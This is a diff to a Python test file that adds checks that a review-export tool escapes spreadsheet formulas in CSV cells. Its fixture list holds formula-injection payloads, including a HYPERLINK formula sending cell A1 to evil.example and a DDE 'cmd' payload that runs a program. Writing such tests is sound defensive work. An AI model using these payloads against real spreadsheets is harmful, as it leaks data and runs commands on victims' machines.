@@ -1,4 +1,5 @@
-"""`kulak export`'s rows, from posts stored as the collectors store them."""
+"""`kulak export`'s rows, from posts stored as the collectors store them. Posts are
+untrusted: no CSV cell is a formula to a spreadsheet; JSON lines keep the text as written."""
 
 import csv
 import io
@@ -6,10 +7,20 @@ import json
 from datetime import UTC, datetime
 
 from monitor.crawl import collect
-from monitor.export import export_rows, write_csv
+from monitor.export import export_rows, write_csv, write_jsonl
 from monitor.replay import Reply
 from tests.helpers import fixture_text, make_settings, record, run, runtime_for
 
+AT = datetime(2026, 12, 5, 9, 0, tzinfo=UTC)
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Kahve Durağı iade")',
+    "=cmd|' /C calc'!A0 Kahve Durağı",
+    "+90 532 Kahve Durağı",
+    "-2+3 Kahve Durağı",
+    "@SUM(1+1) Kahve Durağı",
+    "\t=1+1 Kahve Durağı",
+    "\r=1+1 Kahve Durağı",
+]
 APP_PAGE = "/tr/rss/customerreviews/page=1/id=1580000001/sortby=mostrecent/json"
 
 
@@ -40,3 +51,24 @@ sources:
         line["source"]: line["author"] for line in csv.DictReader(io.StringIO(out.getvalue()))
     }
     assert csv_authors == {"appstore": name, "hackernews": "ayse_k"}
+
+
+def test_csv_cells_that_would_be_formulas_are_text(sqlite_store):
+    records = [record(n, AT, "Kahve Durağı", "neg", text=t) for n, t in enumerate(FORMULAS, 1)]
+    records.append(record(99, AT, "Kahve Durağı", "neg", author="=evil", text="Kahve Durağı ok"))
+    sqlite_store.save(records)
+    out = io.StringIO()
+    assert write_csv(sqlite_store.iter_posts(), out) == len(FORMULAS) + 1
+
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    texts = {row["text"] for row in rows}
+    assert texts == {"'" + text for text in FORMULAS} | {"Kahve Durağı ok"}
+    assert {row["author"] for row in rows} >= {"'=evil", "someone"}
+    assert {row["compound"] for row in rows} == {"-0.6"}  # a negative number stays a number
+
+
+def test_jsonl_keeps_the_text_as_written(sqlite_store):
+    sqlite_store.save([record(1, AT, "Kahve Durağı", text=FORMULAS[0])])
+    out = io.StringIO()
+    write_jsonl(sqlite_store.iter_posts(), out)
+    assert json.loads(out.getvalue())["text"] == FORMULAS[0]
